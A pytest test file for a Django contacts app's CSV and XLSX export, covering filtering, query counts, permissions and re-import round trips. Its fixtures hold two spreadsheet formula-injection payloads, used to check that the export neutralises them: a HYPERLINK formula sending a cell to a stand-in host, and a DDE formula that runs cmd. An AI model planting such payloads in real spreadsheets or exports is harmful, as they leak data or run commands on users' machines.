import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from contacts.import_files import read_table
from contacts.import_rows import check_rows
from contacts.models import Contact
from tests.factories import (
    CompanyFactory,
    ContactFactory,
    MailingGroupFactory,
    PersonFactory,
    SalespersonFactory,
)

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("contacts:contact_export")


def _csv_rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_holds_the_filtered_contacts_with_their_codes(marketing_client):
    newsletter = MailingGroupFactory(code="NEWSLETTER")
    events = MailingGroupFactory(code="EVENTS")
    company = CompanyFactory(name="Brno Tools", country="CZ")
    person = PersonFactory(company=company, salesperson=SalespersonFactory(code="JO"))
    person.mailing_groups.add(newsletter, events)
    ContactFactory(country="FR")

    rows = _csv_rows(
        marketing_client.get(EXPORT_URL, {"country": "SE", "format": "csv"})
    )

    assert [row["number"] for row in rows] == [person.number]
    assert rows[0]["company"] == company.number
    assert rows[0]["salesperson"] == "JO"
    assert sorted(rows[0]["mailing_groups"].split(", ")) == ["EVENTS", "NEWSLETTER"]
    assert rows[0]["exclude_from_segments"] == "no"


def test_the_xlsx_export_holds_the_same_columns(marketing_client):
    contact = ContactFactory(name="Åsa Öberg")

    response = marketing_client.get(EXPORT_URL, {"format": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, row = list(sheet.iter_rows(values_only=True))
    assert header[:3] == ("number", "type", "name")
    assert row[:3] == (contact.number, "person", "Åsa Öberg")


def test_an_export_can_be_imported_again(marketing_client):
    company = CompanyFactory(name="Round Trip AB")
    person = PersonFactory(company=company, name="Tripper")
    person.mailing_groups.add(MailingGroupFactory(code="NEWSLETTER"))
    exported = b"".join(marketing_client.get(EXPORT_URL).streaming_content)

    headers, rows = read_table(SimpleUploadedFile("x.csv", exported), file_name="x.csv")
    result = check_rows(headers, rows)

    assert result.error_count == 0
    assert result.row_count == 2
    assert "number" in result.ignored_columns


@pytest.mark.parametrize("contact_count", [5, 50])
def test_the_export_runs_the_same_queries_whatever_the_size(
    marketing_client, django_assert_num_queries, contact_count
):
    group = MailingGroupFactory()
    for contact in PersonFactory.create_batch(contact_count):
        contact.mailing_groups.add(group)

    # session, user, permissions (2), the contacts with their codes in one query
    with django_assert_num_queries(5):
        response = marketing_client.get(EXPORT_URL)
        rows = _csv_rows(response)

    assert len(rows) == Contact.objects.count()


def test_a_user_without_access_cannot_export(outsider_client):
    assert outsider_client.get(EXPORT_URL).status_code == 403


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def formula_contacts():
    """Names and numbers a spreadsheet would take for formulas."""
    return [
        ContactFactory(name=HYPERLINK, phone="+46 70 123 45 67"),
        ContactFactory(name=DDE, phone="-"),
        ContactFactory(name="@SUM(A1:A9)", city="'quoted'", mobile="-12 34"),
    ]


def _imported_again(exported: bytes, file_name: str) -> list[dict]:
    headers, rows = read_table(
        SimpleUploadedFile(file_name, exported), file_name=file_name
    )
    result = check_rows(headers, rows)
    assert result.error_count == 0, result.errors
    return result.rows


def test_the_xlsx_export_writes_formula_like_names_as_text(
    marketing_client, formula_contacts
):
    response = marketing_client.get(EXPORT_URL, {"format": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    names = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in names} == {"s"}
    assert {cell.value for cell in names} == {
        contact.name for contact in formula_contacts
    }


def test_the_csv_export_guards_formula_like_values_and_imports_them_unchanged(
    marketing_client, formula_contacts
):
    exported = b"".join(marketing_client.get(EXPORT_URL).streaming_content)

    rows = _csv_rows_of(exported)
    assert {row["name"] for row in rows} == {f"'{c.name}" for c in formula_contacts}
    assert "'+46 70 123 45 67" in {row["phone"] for row in rows}
    imported = _imported_again(exported, "contacts.csv")
    fields = ["name", "phone", "mobile", "city"]
    assert sorted(tuple(row[name] for name in fields) for row in imported) == sorted(
        tuple(getattr(contact, name) for name in fields) for contact in formula_contacts
    )


def test_the_xlsx_export_imports_unchanged(marketing_client, formula_contacts):
    response = marketing_client.get(EXPORT_URL, {"format": "xlsx"})

    imported = _imported_again(b"".join(response.streaming_content), "contacts.xlsx")
    fields = ["name", "phone", "mobile", "city"]
    assert sorted(tuple(row[name] for name in fields) for row in imported) == sorted(
        tuple(getattr(contact, name) for name in fields) for contact in formula_contacts
    )


def test_the_xlsx_export_goes_on_to_a_second_sheet_past_a_sheets_rows(
    marketing_client, settings
):
    settings.XLSX_ROWS_PER_SHEET = 3
    ContactFactory.create_batch(3)

    response = marketing_client.get(EXPORT_URL, {"format": "xlsx", "sort": "number"})

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert [sheet.max_row for sheet in workbook.worksheets] == [3, 2]
    assert workbook.worksheets[1]["A1"].value == "number"
    numbers = [
        row[0]
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    assert numbers == sorted(Contact.objects.values_list("number", flat=True))


def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(
    marketing_client,
):
    ContactFactory(name="Bell\x07 Ltd")

    response = marketing_client.get(EXPORT_URL, {"format": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet["C2"].value == "Bell Ltd"


def _csv_rows_of(exported: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
